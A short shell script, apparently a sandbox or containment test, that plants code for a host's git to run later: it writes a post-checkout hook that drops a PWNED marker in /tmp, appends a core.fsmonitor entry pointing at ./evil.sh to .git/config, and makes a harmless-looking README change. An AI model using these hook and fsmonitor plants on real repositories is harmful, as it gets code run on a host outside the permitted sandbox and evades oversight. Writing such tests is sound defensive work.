#!/bin/sh
# Plant code that the host's git would run later: a hook, and core.fsmonitor in the configuration.
printf '#!/bin/sh\necho PWNED > /tmp/pwned\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout && echo "HOOK-WRITTEN"
printf '[core]\n\tfsmonitor = ./evil.sh\n' >> .git/config && echo "CONFIG-WRITTEN"
mkdir -p .git/hooks-new 2>/dev/null && echo "DIR-MADE"
echo "innocent change" > README.md
